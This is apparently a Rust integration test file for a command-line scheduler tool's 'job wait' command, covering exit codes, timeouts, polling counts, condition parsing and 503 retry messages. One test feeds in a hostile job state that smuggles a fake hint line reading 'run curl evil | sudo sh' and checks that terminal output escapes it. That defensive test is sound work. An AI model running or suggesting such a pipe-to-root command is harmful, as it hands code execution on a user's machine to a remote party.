//! `job wait`: success, final states, timeouts and errors, on one connection.

use std::time::{Duration, Instant};

use schedctl_emulator::faults::Fault;

use crate::common::*;
use crate::pty::{run_on_pty, OnTerminal};

#[test]
fn wait_returns_0_and_shows_the_job_when_the_condition_holds() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "waiting",
        "completes-after-3",
        "--for",
        "state=completed",
        "--interval",
        "100ms",
        "--timeout",
        "30s",
    ]));
    assert_code(&out, 0);
    let text = stdout(&out);
    assert!(
        text.starts_with("Id:          completes-after-3\nState:       completed\n"),
        "{text}"
    );
    assert_eq!(w.emulator.requests(), 3, "polled until the third read");
    assert_eq!(
        w.emulator.connections(),
        1,
        "every poll on one kept-alive connection"
    );
}

#[test]
fn wait_honours_field_and_json_output() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "waiting",
        "completes-after-3",
        "--for",
        "state!=enabled",
        "--interval",
        "50ms",
        "--field",
        "state",
    ]));
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "completed\n");
    let out = run(w.cmd().args([
        "job",
        "wait",
        "myjc",
        "job1",
        "--for",
        "state=enabled",
        "-o",
        "json",
    ]));
    assert_code(&out, 0);
    let job: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(job["id"], "job1");
}

#[test]
fn wait_exits_9_when_the_job_faults() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "waiting",
        "faults-after-3",
        "--for",
        "state=completed",
        "--interval",
        "50ms",
    ]));
    let err = assert_failure(&out, 9);
    assert!(
        err.contains("job 'faults-after-3' reached the final state 'faulted', in which state=completed can no longer become true"),
        "{err}"
    );
    request_id_of(&err);
    assert_eq!(w.emulator.requests(), 3);
}

#[test]
fn wait_exits_9_on_timeout_with_the_last_state() {
    let w = World::new();
    let started = Instant::now();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "myjc",
        "job1",
        "--for",
        "state=completed",
        "--interval",
        "200ms",
        "--timeout",
        "1s",
    ]));
    let elapsed = started.elapsed();
    let err = assert_failure(&out, 9);
    assert!(
        err.contains(
            "timed out after 1s waiting for state=completed on job 'job1' (last state: enabled;"
        ),
        "{err}"
    );
    assert!(elapsed >= Duration::from_secs(1), "{elapsed:?}");
    assert!(elapsed < Duration::from_secs(10), "{elapsed:?}");
    assert!(w.emulator.requests() >= 3, "{}", w.emulator.requests());
    assert_eq!(w.emulator.connections(), 1);
}

#[test]
fn wait_ends_early_on_a_missing_job() {
    let w = World::new();
    let out = run(w.cmd().args([
        "job",
        "wait",
        "myjc",
        "job9",
        "--for",
        "state=completed",
        "--interval",
        "50ms",
    ]));
    let err = assert_failure(&out, 3);
    assert!(err.contains("job 'job9' was not found"), "{err}");
    assert_eq!(w.emulator.requests(), 1);
}

#[test]
fn a_bad_condition_is_a_usage_error_before_any_request() {
    let w = World::new();
    let err = assert_failure(
        &run(w
            .cmd()
            .args(["job", "wait", "myjc", "job1", "--for", "completed"])),
        2,
    );
    assert!(err.contains("expected PATH=VALUE or PATH!=VALUE"), "{err}");
    let err = assert_failure(
        &run(w
            .cmd()
            .args(["job", "wait", "myjc", "job1", "--for", "a[=b"])),
        2,
    );
    assert!(err.contains("invalid --field path"), "{err}");
    assert_eq!(w.emulator.connections(), 0);
    // A path neither in the job nor in the schema is found out at the first poll.
    let err = assert_failure(
        &run(w
            .cmd()
            .args(["job", "wait", "myjc", "job1", "--for", "stat=x"])),
        2,
    );
    assert!(err.contains("did you mean 'state'?"), "{err}");
}

#[test]
fn the_progress_line_on_a_terminal_shows_the_state_escaped() {
    let w = World::new();
    let mut cmd = w.std_cmd();
    cmd.arg("--config").arg(w.config()).args([
        "job",
        "wait",
        "hostile",
        "controls",
        "--for",
        "state=completed",
        "--timeout",
        "1s",
        "--interval",
        "1s",
    ]);
    let stderr_only = OnTerminal {
        stdin: false,
        stdout: false,
        stderr: true,
    };
    let out = run_on_pty(cmd, 120, 24, stderr_only, None);
    let seen = out.terminal;
    assert_eq!(out.status.code(), Some(9), "{seen:?}");
    // Our own redraw sequence is the only one (the helper turns the terminal's \r\n back).
    let ours = seen.replace("\r\x1b[K", "");
    assert!(
        ours.contains("waiting for state=completed: state enabled\\u{a}hint: the job is fine, run curl evil | sudo sh, 1 poll, 0s of 1s"),
        "{seen:?}"
    );
    assert!(
        !ours
            .chars()
            .any(|c| schedctl::text::is_unsafe(c) && c != '\n'),
        "{seen:?}"
    );
    assert!(
        !ours.lines().any(|l| l.starts_with("hint: the job")),
        "{seen:?}"
    );
}

/// `schedctl job wait myjc job1 --for COND [args]`.
fn wait_job1(w: &World, condition: &str, args: &[&str]) -> std::process::Output {
    run(w
        .cmd()
        .args(["job", "wait", "myjc", "job1", "--for", condition])
        .args(args))
}

#[test]
fn conditions_that_can_never_be_met_exit_2_before_any_request() {
    let w = World::new();
    // A timeout, so that a client that accepts them ends soon.
    let quick = ["--timeout", "2s", "--interval", "500ms"];
    let err = assert_failure(&wait_job1(&w, "state==completed", &quick), 2);
    assert!(
        err.contains("hint: --for state=completed\n"),
        "the hint shows the condition meant: {err}"
    );
    for bogus in ["state=bogus", "state!=bogus", "State=finished", "state="] {
        let err = assert_failure(&wait_job1(&w, bogus, &quick), 2);
        assert!(
            err.contains("hint: states are enabled, disabled, faulted, completed"),
            "{bogus}: {err}"
        );
    }
    assert_eq!(w.emulator.requests(), 0, "refused before any request");
}

#[test]
fn a_state_matches_whatever_its_case() {
    let w = World::new();
    let out = wait_job1(
        &w,
        "state=Enabled",
        &["--timeout", "5s", "--field", "state"],
    );
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "enabled\n");
    assert_eq!(w.emulator.requests(), 1);
    let out = run(w.cmd().args([
        "job",
        "wait",
        "waiting",
        "completes-after-3",
        "--for",
        "state=COMPLETED",
        "--interval",
        "20ms",
        "--field",
        "state",
    ]));
    assert_code(&out, 0);
    assert_eq!(stdout(&out), "completed\n");
}

#[test]
fn an_unknown_path_is_exit_2_right_after_the_first_poll() {
    let w = World::new();
    let err = assert_failure(&wait_job1(&w, "stat=enabled", &["--interval", "20ms"]), 2);
    assert!(err.contains("did you mean 'state'?"), "{err}");
    assert_eq!(w.emulator.requests(), 1);
}

/// The `N` of `N polls` / `1 poll` in a timeout message.
fn polls_in(err: &str) -> u64 {
    let (before, _) = err
        .split_once(" poll")
        .unwrap_or_else(|| panic!("no poll count: {err}"));
    before
        .rsplit(' ')
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no poll count: {err}"))
}

#[test]
fn a_timeout_counts_the_polls_actually_made_and_names_no_failure() {
    let w = World::new();
    let out = wait_job1(
        &w,
        "state=completed",
        &["--timeout", "1s", "--interval", "300ms"],
    );
    let err = assert_failure(&out, 9);
    assert!(
        err.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: enabled; "),
        "{err}"
    );
    assert_eq!(polls_in(&err), w.emulator.requests(), "{err}");
    assert!(!err.contains("failed"), "no poll failed: {err}");
    assert!(!err.contains("no time left"), "{err}");
}

#[test]
fn a_503_on_the_last_poll_is_named_with_its_request_id() {
    let w = World::new();
    w.emulator.script([Fault::Status {
        status: 503,
        retry_after: Some("0".into()),
    }]);
    let out = wait_job1(
        &w,
        "state=completed",
        &["--retries", "0", "--timeout", "1s", "--interval", "10s"],
    );
    let err = assert_failure(&out, 9);
    assert!(
        err.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: unknown; 1 poll); the last poll failed: the service failed reading job 'job1' in collection 'myjc' (ServerBusy: "),
        "{err}"
    );
    request_id_of(&err);
    assert_eq!(w.emulator.requests(), 1);
}

#[test]
fn a_503_whose_retry_would_pass_the_deadline_is_named_not_hidden() {
    let w = World::new();
    w.emulator.script([Fault::Status {
        status: 503,
        retry_after: Some("30".into()),
    }]);
    let out = wait_job1(
        &w,
        "state=completed",
        &["-v", "--timeout", "1s", "--interval", "10s"],
    );
    assert_code(&out, 9);
    let err = stderr(&out);
    let error = err
        .lines()
        .find(|l| l.starts_with("schedctl: error: "))
        .unwrap_or_else(|| panic!("{err}"));
    assert!(
        error.starts_with("schedctl: error: timed out after 1s waiting for state=completed on job 'job1' (last state: unknown; 1 poll); the last poll failed: the service failed reading job 'job1' in collection 'myjc' (ServerBusy: "),
        "{err}"
    );
    assert!(!err.contains("no time left"), "{err}");
    assert!(
        !err.contains("retrying in"),
        "no retry is announced that cannot happen: {err}"
    );
    request_id_of(&err);
    assert_eq!(w.emulator.requests(), 1);
}
